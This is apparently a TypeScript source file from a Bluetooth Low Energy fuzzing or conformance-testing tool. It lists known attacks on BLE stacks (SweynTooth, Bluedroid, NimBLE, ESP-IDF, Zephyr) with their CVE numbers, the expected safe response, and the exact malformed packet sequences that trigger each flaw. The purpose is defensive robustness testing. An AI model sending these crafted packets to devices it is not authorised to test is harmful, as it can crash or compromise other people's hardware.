import { encodeAtt } from '#codecs/ble/att.ts';
import { CID, encodeL2cap } from '#codecs/ble/l2cap.ts';
import { encodePairing } from '#codecs/ble/pairing.ts';
import {
  att,
  attack,
  frame,
  REQUEST,
  start,
  times,
  type KnownBleAttack,
  type KnownHandles,
} from '#fuzz/ble-attack.ts';

const READ = encodeAtt({ type: 'readReq', handle: 3 });

/** Attacks on framing and ATT. */
export function framingAttacks({ writable, readable }: KnownHandles): readonly KnownBleAttack[] {
  const padded = Uint8Array.from([
    ...encodeL2cap({ cid: CID.pairing, payload: encodePairing(REQUEST) }),
    ...new Uint8Array(175),
  ]);
  return [
    attack(
      'sweyntooth-l2cap-length-zero',
      ['CVE-2019-17517'],
      'Dialog DA14580',
      'a frame of length 0 with three bytes of ATT behind it',
      'drop it, or answer ATT error 04',
      [start(encodeL2cap({ cid: CID.att, payload: READ }, { length: 0 }))],
    ),
    attack(
      'sweyntooth-padded-frame',
      ['CVE-2019-17518'],
      'Dialog DA14680',
      'a Pairing Request in a packet far longer than its frame',
      'use the frame’s length, drop the rest',
      [start(padded)],
    ),
    attack(
      'sweyntooth-truncated-start',
      ['CVE-2019-19195'],
      'Microchip ATSAMB11',
      'first fragments of one or two bytes, four times',
      'wait for the rest or drop it',
      [...times(4, start(Uint8Array.of(32, 0))), ...times(4, start(Uint8Array.of(32)))],
    ),
    attack(
      'sweyntooth-mtu-twice',
      ['CVE-2019-19192'],
      'ST WB55',
      'two MTU requests without waiting, then silence',
      'ignore or answer the second, advertise again',
      [att({ type: 'mtuReq', mtu: 100 }), att({ type: 'mtuReq', mtu: 100 }), { do: 'vanish' }],
    ),
    attack(
      'bluedroid-frame-length-ffff',
      ['CVE-2020-0022', 'CVE-2024-0039'],
      'Bluedroid',
      'a first fragment that announces 65535 bytes, then a longer continuation',
      'drop it',
      [
        start(encodeL2cap({ cid: CID.att, payload: READ }, { length: 0xffff })),
        { do: 'pieces', pieces: [{ isStart: false, data: new Uint8Array(200) }] },
      ],
    ),
    attack(
      'bluedroid-short-requests',
      [],
      'Bluedroid before 2025-12; bleno 0.12.4',
      'requests that end before their handle, offset or flags',
      'answer ATT error 04, or drop signed writes',
      [
        ...[0x0a, 0x0c, 0x18, 0x12, 0x02, 0x06, 0x08].map((opcode) =>
          frame(CID.att, Uint8Array.of(opcode, 3)),
        ),
        frame(CID.att, Uint8Array.of(0x0c, 3, 0)),
        frame(CID.att, Uint8Array.of(0xd2, 3, 0, 1)),
      ],
    ),
    attack(
      'nimble-stalled-write',
      ['CVE-2024-24746'],
      'NimBLE up to 1.6.0',
      'one prepared write, then silence beyond thirty seconds',
      'keep serving',
      [
        att({ type: 'prepareReq', handle: writable, offset: 0, value: Uint8Array.of(1) }),
        { do: 'wait', ms: 31_000 },
      ],
    ),
    attack(
      'espressif-overlapping-writes',
      ['CVE-2026-25508'],
      'ESP-IDF 5.1.6 to 5.5.2, provisioning',
      'prepared writes whose offsets overlap while their lengths add up, then execute',
      'refuse by length or offset',
      [
        ...times(16, att({ type: 'prepareReq', handle: writable, offset: 0, value: new Uint8Array(18) })),
        att({ type: 'executeReq', flags: 1 }),
      ],
    ),
    attack(
      'zephyr-disconnect-in-flight',
      ['CVE-2026-11368'],
      'Zephyr 4.4.0 and 4.4.1',
      'twenty reads queued, then a disconnection',
      'drop the answers',
      [...times(20, att({ type: 'readReq', handle: readable })), { do: 'disconnect' }],
    ),
    attack(
      'long-write',
      [],
      'handlers that copy without a look',
      'a written value of 500 bytes',
      'answer ATT error 0D',
      [
        att({ type: 'mtuReq', mtu: 517 }),
        { do: 'settle' },
        att({ type: 'writeReq', handle: writable, value: new Uint8Array(500) }),
      ],
    ),
  ];
}
